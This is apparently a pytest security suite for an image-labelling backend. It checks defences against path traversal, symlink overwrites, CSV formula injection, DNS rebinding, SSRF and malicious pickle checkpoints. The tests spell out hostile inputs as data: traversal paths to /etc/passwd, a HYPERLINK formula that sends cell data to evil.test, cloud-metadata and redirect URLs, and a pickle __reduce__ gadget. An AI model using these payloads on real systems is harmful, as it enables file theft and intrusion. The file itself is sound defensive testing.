"""No file is read or written where none should be, and none that comes in or goes out does harm."""

from __future__ import annotations

import csv
import hashlib
import ipaddress
import os
import pickle
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from flask.testing import FlaskClient
from hypothesis import given
from hypothesis import strategies as st

from backend.exports.export import export
from backend.exports.tables import _text_cell
from backend.exports.whole import whole_file
from backend.exports.wish import Format, Wish
from jobs.images import ImageSource
from jobs.images.destination import Address
from jobs.workplace import Workplace
from store import labels, pool, subsets
from store.database import Store
from store.tables import Mode, Project
from studio.client import Client
from tests.conftest import make_project
from tests.files import picture
from tests.jobs.web_host import WebHost, file, redirect


def test_no_file_but_the_pages_own_is_served(client: FlaskClient) -> None:
    assert client.get("/static/iwes.css").status_code == 200
    for path in (
        "../people.py",
        "..%2fpeople.py",
        "%2e%2e/people.py",
        "....//people.py",
        "/etc/passwd",
        "\\..\\app.py",
    ):
        assert client.get(f"/static/{path}", follow_redirects=True).status_code == 404, path


def test_no_name_becomes_a_path_of_an_export(place: Workplace, store: Store, tmp_path: Path) -> None:
    project = make_project(store, title="../../escaped", classes=["cat"], tasks=3)
    with store.write() as session:
        labels.record_given(session, project, {1: "cat", 2: "cat", 3: "cat"})
        for name in ("../up", "a/b", "..", "C:", "a\0b", "-", "a" * 33):
            with pytest.raises(subsets.BadSubset, match="--name"):
                subsets.ask(session, project, name=name, rule="dis", size=2)
    (tmp_path / "out").mkdir()
    export(place, project.id, Wish(Format.CSV), tmp_path / "out" / "set.csv")
    assert sorted(path.name for path in (tmp_path / "out").iterdir()) == ["set.csv", "set.csv.manifest.json"]
    assert not list(tmp_path.rglob("*escaped*"))


def test_an_export_does_not_write_through_a_link_that_somebody_laid(tmp_path: Path) -> None:
    precious = tmp_path / "precious"
    precious.write_text("mine")
    (tmp_path / f".set.csv.{os.getpid()}.partial").symlink_to(precious)
    with whole_file(tmp_path / "set.csv") as (partial, _):
        partial.write_text("task,image\n")
    assert precious.read_text() == "mine"
    assert (tmp_path / "set.csv").read_text() == "task,image\n"


DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def read_back(cell: str) -> str:
    """What a text cell stood for: the rule that the docs give."""
    return cell.removeprefix("'")


@given(st.text() | st.sampled_from(DANGEROUS).flatmap(lambda sign: st.text().map(lambda rest: f"{sign}{rest}")))
def test_no_text_of_a_csv_is_a_formula_and_every_text_comes_back(text: str) -> None:
    cell = _text_cell(text)
    assert isinstance(cell, str)
    assert not cell.lstrip(" ").startswith(DANGEROUS)
    assert read_back(cell) == text


def test_what_annotators_and_tasks_say_reaches_no_spreadsheet_as_a_formula(
    place: Workplace, store: Store, tmp_path: Path
) -> None:
    harmful = ['=HYPERLINK("http://evil.test?"&A1)', "@SUM(1)", " =1+1", "'=1", "\t=1", "\n=1", "＝1", "-2"]
    project = make_project(store, classes=harmful, mode=Mode.ENT)
    with store.write() as session:
        pool.mirror(session, project, {n: {"image": name, "n": -n} for n, name in enumerate(harmful, 1)})
        labels.record_given(session, project, dict(enumerate(harmful, 1)))
    export(place, project.id, Wish(Format.CSV), tmp_path / "set.csv")
    with (tmp_path / "set.csv").open(newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    assert [row["class"] for row in rows] == [f"'{name}" for name in harmful]
    assert [read_back(row["image"]) for row in rows] == harmful
    assert {row["weight"] for row in rows} == {"1.0"}, "numbers are as they were"


@pytest.fixture
def host() -> Iterator[WebHost]:
    with WebHost() as host:
        yield host


class Rebinding:
    """A DNS that means one machine when it is asked first, and another from then on."""

    def __init__(self, first: str, then: str) -> None:
        self._answers = [first, then]
        self.asked = 0

    def __call__(self, name: str, port: int) -> list[Address]:
        self.asked += 1
        return [ipaddress.ip_address(self._answers[min(self.asked, 2) - 1])]


def outcome(source: ImageSource, address: str) -> str:
    """Why the image at this address is set aside; empty if it was loaded."""
    loaded = source.load([{"image": address}])
    return next(iter((loaded.bad | loaded.away).values()), "")


def test_an_images_host_cannot_lead_to_this_machine_by_changing_its_address(
    host: WebHost, project: Project, tmp_path: Path
) -> None:
    host.answers["/1.png"] = file(picture(noise=1))
    prefix = f"http://localhost:{host.port}/"
    dns = Rebinding("127.0.0.1", "127.0.0.2")
    studio = Client("http://studio.test", "t" * 40)
    source = ImageSource(project, studio, tmp_path, 28, prefixes=[prefix], resolver=dns)
    with WebHost(at="127.0.0.2", port=host.port) as inner:
        inner.answers["/1.png"] = file(picture(noise=2))
        assert outcome(source, f"{prefix}1.png") == ""
        assert inner.asked == [], "the connection goes to the address that was checked"
    assert dns.asked == 1
    metadata = ImageSource(
        project,
        studio,
        tmp_path / "other",
        28,
        prefixes=["http://photos.example/"],
        resolver=Rebinding("169.254.169.254", "169.254.169.254"),
    )
    assert "link-local address" in outcome(metadata, "http://photos.example/latest/meta-data/")


def test_an_image_leads_nowhere_but_to_label_studio_and_the_allowed_prefixes(
    host: WebHost, project: Project, tmp_path: Path
) -> None:
    host.answers["/photos/1.png"] = redirect("http://169.254.169.254/latest/meta-data/")
    host.answers["/photos/2.png"] = redirect("file:///etc/passwd")
    allowed = f"{host.url}/photos/"
    source = ImageSource(project, Client("http://studio.test", "t" * 40), tmp_path, 28, prefixes=[allowed])
    for address in (
        *("http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:22/", "file:///etc/passwd", "/etc/passwd"),
        *("/data/local-files/?d=../../etc/passwd", "/data/local-files/?d=..%2f..%2fetc/passwd", "/data/../api/users"),
        *("/api/current-user/token", "//evil.test/data/1.png", "http://studio.test@evil.test/data/1.png"),
        *(
            f"{host.url}/photos/../secret.png",
            f"{host.url}/photos-of-others/1.png",
            f"{allowed}1.png",
            f"{allowed}2.png",
        ),
    ):
        assert outcome(source, address), address
    assert host.paths == ["/photos/1.png", "/photos/2.png"], "asked for only what is allowed, and not led on"


def test_a_data_set_reads_no_file_outside_of_its_folder(store: Store, tmp_path: Path) -> None:
    root = tmp_path / "images"
    root.mkdir()
    (tmp_path / "secret.png").write_bytes(picture(noise=1))
    (root / "link.png").symlink_to(tmp_path / "secret.png")
    project = make_project(store, studio_url=f"folder:{root}")
    source = ImageSource(project, None, tmp_path / "cache", 28)
    for path in ("../secret.png", str(tmp_path / "secret.png"), "link.png", "./../secret.png"):
        assert "leads out of the folder" in outcome(source, path)


class Harmful:
    """Would make a file where it is unpickled."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple[Any, ...]:
        return (Path.touch, (self.path,))


def test_a_pickle_offered_as_a_checkpoint_is_refused_and_not_run(tmp_path: Path) -> None:
    from models import checkpoint
    from models.card import CARD, BadCheckpoint, Card
    from models.workshop import Workshop

    weights = pickle.dumps({"0.weight": Harmful(tmp_path / "ran")})
    card = Card(
        **{"version": "iwes-model-0", "network": "small-cnn", "way": "full", "frozen": None, "input_size": 28},
        **{"transform": "", "classes": ["cat", "dog"], "temperature": 1.0, "seed": 1, "round": 0, "training_set": ""},
        **{"metrics": {}, "weights_sha256": hashlib.sha256(weights).hexdigest(), "libraries": {}},
    )
    (tmp_path / card.weights_name).write_bytes(weights)
    (tmp_path / CARD).write_text(card.text())
    with pytest.raises(BadCheckpoint):
        checkpoint.load(tmp_path, Workshop(tmp_path, tmp_path, "cpu"))
    assert not (tmp_path / "ran").exists()
